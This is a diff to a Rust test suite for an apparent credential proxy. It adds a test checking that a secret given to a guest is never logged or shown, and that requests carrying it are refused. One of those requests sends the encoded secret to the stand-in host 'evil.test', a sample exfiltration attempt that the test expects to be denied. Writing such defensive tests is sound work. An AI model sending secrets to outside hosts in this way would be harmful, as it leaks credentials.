@@ -4,7 +4,7 @@
 use crate::canary::{CANARY, clean_run, needles};
 use portcullis_tests::{
     Project, Vendor,
-    case::{Case, SLOT, http},
+    case::{Case, SLOT, http, is_denied, order},
     vendor::{Next, contains},
     wait_for,
 };
@@ -163,5 +163,38 @@ fn the_spool_holds_no_part_of_it() {
         for (path, bytes) in project.bytes_below("data") {
             nowhere(&path.display().to_string(), &bytes);
         }
+    }
+}
+
+/// Somebody gave the guest the secret itself: what it asks for and says is stored and shown without it, also before the first
+/// request that needs it.
+#[test]
+fn what_a_guest_was_given_is_in_no_row_of_a_refusal_and_in_no_failure() {
+    const GIVEN: &str = "CanaryGiven/9f+Zq=17";
+    const ENCODED: &str = "CanaryGiven%2F9f%2BZq%3D17";
+    let manifest = format!("{SLOT}{}", http(&["GET https://api.vendor.test/v1/**"], "credential = \"key\""));
+    let project = Case { manifest, ..Case::default().bearer() }.approved_with(GIVEN);
+    for url in [format!("http://evil.test/{ENCODED}"), format!("https://api.vendor.test/own/{ENCODED}")] {
+        assert!(is_denied(&project.send(&order("GET", &url))));
+    }
+    let words = json!({"kind": "unavailable", "message": format!("vendor said {GIVEN}")});
+    let (ran, _) = project.call("probe", "fail", &words);
+    let mut shown = vec![format!("{}{}", ran.stdout, ran.stderr)];
+    for args in
+        [&["logs"][..], &["logs", "--har"], &["denials"], &["runs"], &["--json", "runs"], &["--json", "logs"]]
+    {
+        let ran = project.run(args);
+        shown.push(format!("{}{}", ran.stdout, ran.stderr));
+    }
+    for text in shown {
+        assert!(!text.contains("CanaryGiven"), "{text}");
+    }
+    // What a run was given is kept whole in the other database, as its documentation says.
+    let rows = project
+        .bytes_below("data")
+        .into_iter()
+        .filter(|(path, _)| path.display().to_string().contains("exchanges.db"));
+    for (path, bytes) in rows {
+        assert!(!bytes.windows(11).any(|window| window == b"CanaryGiven"), "{}", path.display());
     }
 }
